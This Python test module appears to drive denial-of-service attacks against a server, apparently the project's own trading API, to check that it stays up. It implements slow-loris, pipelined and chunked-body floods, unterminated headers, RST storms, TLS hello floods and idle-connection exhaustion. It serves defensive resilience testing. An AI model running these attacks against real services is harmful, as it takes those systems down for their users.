"""What one anonymous client does to a server over plain sockets. Each attack runs for about as long as it is given.

None raises when the server closes, resets or no longer reads: that is what it is there for.
"""

from __future__ import annotations

import contextlib
import select
import socket
import ssl
import time
from collections.abc import Iterator
from typing import NamedTuple
from urllib.parse import urlsplit

from tests.attacks.raw import ATTACKER, Connection, connect, request, tcp

CHUNKED = {"Transfer-Encoding": "chunked", "Content-Type": "application/json"}
PIPELINED_GET = request("GET", "/bbo/BTC-USDT")
PIPELINED_POST = request("POST", "/order", b'{"symbol":"BTC-USDT"}', headers={"Content-Type": "application/json"})
LARGE_ANSWER = "/openapi.json"
PIECE = 65_536
SLOW_BUFFER = 4096  # bytes that a slow reader has room for
TICK_S = 0.05
WOULD_WAIT = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)


class Flood(NamedTuple):
    """What became of an attacker who sent as fast as the server read, and came back each time that it closed."""

    sent: int  # bytes
    received: bytes  # the first of them, up to 64 KiB
    received_bytes: int
    connections: int
    closed: int  # of these, by the server


def flood(url: str, head: bytes, piece: bytes, seconds: float, source: str | None = ATTACKER) -> Flood:
    """Send `head` and then `piece` again and again as fast as they are read, and read whatever comes, for `seconds`."""
    deadline = time.monotonic() + seconds
    sent, received, received_bytes, connections, closed = 0, b"", 0, 0, 0
    while time.monotonic() < deadline:
        try:
            connection = connect(url, source=source, timeout_s=max(0.1, deadline - time.monotonic()))
        except OSError:
            time.sleep(TICK_S)
            continue
        connections += 1
        with connection:
            for taken, piece_received in _pump(connection.sock, head, piece, deadline):
                sent += taken
                received_bytes += len(piece_received)
                if len(received) < PIECE:
                    received += piece_received
        closed += time.monotonic() < deadline
    return Flood(sent, received, received_bytes, connections, closed)


def _pump(sock: socket.socket, head: bytes, piece: bytes, deadline: float) -> Iterator[tuple[int, bytes]]:
    """Yield how much was sent and what was received, turn by turn, until the server closes or the deadline comes."""
    sock.setblocking(False)
    pending = memoryview(head or piece)
    while (remaining := deadline - time.monotonic()) > 0:
        readable, writable, _ = select.select([sock], [sock], [], min(remaining, 0.5))
        sent, received = 0, b""
        try:
            if readable:
                received = sock.recv(PIECE)
                if not received:
                    return
            if writable:
                sent = sock.send(pending)
                pending = pending[sent:] or memoryview(piece)
        except BlockingIOError:
            pass
        except OSError:
            yield sent, received  # an answer that came before the connection was reset under what followed
            return
        yield sent, received


def pipelined(url: str, seconds: float, content: bytes = PIPELINED_GET) -> Flood:
    """One request after the other on one connection, none waiting for an answer; the answers are read."""
    return flood(url, b"", content * (PIECE // len(content)), seconds)


def pipelined_on_many(url: str, seconds: float, connections: int = 50, content: bytes = PIPELINED_GET) -> None:
    """`pipelined` on so many connections at once."""
    held = {}
    poll = select.poll()
    for _ in range(connections):
        connection = connect(url, source=ATTACKER)
        connection.sock.setblocking(False)
        held[connection.sock.fileno()] = connection
        poll.register(connection.sock, select.POLLIN | select.POLLOUT)
    piece = content * (PIECE // len(content))
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for fd, event in poll.poll(100):
            with contextlib.suppress(OSError):
                if event & select.POLLIN:
                    held[fd].sock.recv(PIECE)
                if event & select.POLLOUT:
                    held[fd].sock.send(piece)
    for connection in held.values():
        connection.close()


def pipelined_unread(url: str, seconds: float, content: bytes = PIPELINED_GET) -> None:
    """As `pipelined`, and no answer is ever read."""
    with connect(url, source=ATTACKER, receive_buffer=SLOW_BUFFER) as connection:
        _send_only(connection.sock, content * (PIECE // len(content)), seconds)


def one_byte_chunks(url: str, seconds: float) -> Flood:
    """A body of as many chunks as it has bytes."""
    return flood(url, request("POST", "/order", headers=CHUNKED), b"1\r\n \r\n" * (PIECE // 6), seconds)


def chunk_extension(url: str, seconds: float) -> Flood:
    """A chunk whose extension does not end."""
    return flood(url, request("POST", "/order", headers=CHUNKED) + b"5;a=", b"x" * PIECE, seconds)


def trailers(url: str, seconds: float) -> Flood:
    """A chunked body whose trailers do not end."""
    return flood(url, request("POST", "/order", headers=CHUNKED) + b"2\r\n{}\r\n0\r\n", b"X-A: b\r\n" * 8000, seconds)


def discarded_body(url: str, seconds: float, target: str = "/no-such-path") -> Flood:
    """A body of a gigabyte that nobody wants."""
    return flood(url, request("POST", target, headers={"Content-Length": str(10**9)}), b"x" * PIECE, seconds)


def endless_chunks(url: str, seconds: float) -> Flood:
    """A chunked body of large chunks that does not end."""
    chunk = b"4000\r\n" + b" " * 0x4000 + b"\r\n"
    return flood(url, request("POST", "/no-such-path", headers=CHUNKED), chunk * 4, seconds)


def endless_head(url: str, seconds: float) -> Flood:
    """A head of one header that does not end."""
    return flood(url, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: ", b"x" * PIECE, seconds)


def resets(url: str, seconds: float, content: bytes = b"", every_s: float = 0.002) -> int:
    """TCP connections that end with RST before a byte was said, or behind `content`. Returns how many there were.

    Without a pause this process would take the processor that the server needs.
    """
    deadline = time.monotonic() + seconds
    count = 0
    while time.monotonic() < deadline:
        try:
            connection = Connection(tcp(url, source=ATTACKER, timeout_s=1.0))
        except OSError:
            time.sleep(TICK_S)
            continue
        with contextlib.suppress(OSError):
            connection.send(content)
        connection.reset()
        count += 1
        time.sleep(every_s)
    return count


def hellos(url: str, seconds: float, at_once: int = 100) -> int:
    """The same first message of a TLS handshake on many connections, which costs nothing but the server's answer.

    Returns how many were answered.
    """
    context, outgoing = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT), ssl.MemoryBIO()
    handshake = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        handshake.do_handshake()
    hello, deadline, answered = outgoing.read(), time.monotonic() + seconds, 0
    while time.monotonic() < deadline:
        held = idle(url, at_once)
        for connection in held:
            with contextlib.suppress(OSError):
                connection.send(hello)
        for connection in held:
            with contextlib.suppress(OSError):
                connection.sock.settimeout(max(0.01, deadline - time.monotonic()))
                answered += bool(connection.sock.recv(1))
            connection.reset()
    return answered


def idle(url: str, count: int, source: str = ATTACKER, within_s: float = 3.0) -> list[Connection]:
    """So many TCP connections on which nothing is said, or as many as the server accepts `within_s`.

    The caller closes them.
    """
    parts = urlsplit(url)
    poll = select.poll()
    coming: dict[int, socket.socket] = {}
    for _ in range(count):
        sock = socket.socket()
        sock.setblocking(False)
        sock.bind((source, 0))
        sock.connect_ex((parts.hostname or "", parts.port or 0))
        coming[sock.fileno()] = sock
        poll.register(sock, select.POLLOUT)
    held = []
    deadline = time.monotonic() + within_s
    while coming and (remaining := deadline - time.monotonic()) > 0:
        for fd, _event in poll.poll(remaining * 1000):
            poll.unregister(fd)
            sock = coming.pop(fd)
            if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                sock.close()
            else:
                held.append(Connection(sock))
    for sock in coming.values():
        sock.close()
    return held


def drip(url: str, heads: list[bytes], seconds: float, every_s: float = 0.2) -> list[float]:
    """Slow-loris: each of `heads` on a connection of its own, then a byte at a time.

    Returns after how many seconds the server closed each, without those that it did not close.
    """
    held: dict[Connection, float] = {}
    for head in heads:
        connection = connect(url, source=ATTACKER)
        connection.send(head)
        connection.sock.setblocking(False)
        held[connection] = time.monotonic()
    lived: list[float] = []
    deadline = time.monotonic() + seconds
    while held and time.monotonic() < deadline:
        time.sleep(every_s)
        for connection, began in list(held.items()):
            if _has_closed(connection.sock):
                lived.append(time.monotonic() - began)
                connection.close()
                del held[connection]
    for connection in held:
        connection.close()
    return lived


def _has_closed(sock: socket.socket) -> bool:
    """Whether it is over; else one more byte is on its way."""
    try:
        while sock.recv(PIECE):
            pass
    except WOULD_WAIT:
        pass
    except OSError:
        return True
    else:
        return True
    try:
        sock.send(b"a")
    except WOULD_WAIT:
        return False
    except OSError:
        return True
    return False


def slow_reader(url: str, seconds: float, connections: int = 8, target: str = LARGE_ANSWER) -> None:
    """Ask for a large answer again and again and read next to nothing of them."""
    held = [connect(url, source=ATTACKER, receive_buffer=SLOW_BUFFER) for _ in range(connections)]
    deadline = time.monotonic() + seconds
    content = request("GET", target) * 200
    for connection in held:
        connection.sock.settimeout(TICK_S)
        with contextlib.suppress(OSError):
            connection.send(content)
    while time.monotonic() < deadline:
        for connection in held:
            with contextlib.suppress(OSError):
                connection.sock.recv(1)
        time.sleep(TICK_S)
    for connection in held:
        connection.close()


def _send_only(sock: socket.socket, piece: bytes, seconds: float) -> None:
    deadline = time.monotonic() + seconds
    while (remaining := deadline - time.monotonic()) > 0:
        sock.settimeout(remaining)
        try:
            sock.sendall(piece)
        except OSError:
            return


def hold(url: str, connections: int, seconds: float, source: str = ATTACKER) -> int:
    """Hold so many idle connections. Returns how many the server kept open until the end."""
    held = idle(url, connections, source)
    time.sleep(seconds)
    return sum([not _ended(connection) for connection in held])


def tls_hold(url: str, connections: int, seconds: float) -> int:
    """`hold` with a first byte of a handshake on each."""
    held = idle(url, connections)
    for connection in held:
        with contextlib.suppress(OSError):
            connection.send(b"\x16")
    time.sleep(seconds)
    return sum([not _ended(connection) for connection in held])


def _ended(connection: Connection) -> bool:
    """Whether the server closed it; it is closed then in any case."""
    with connection:
        connection.sock.setblocking(False)
        try:
            return connection.sock.recv(1) == b""
        except BlockingIOError:
            return False
        except OSError:
            return True
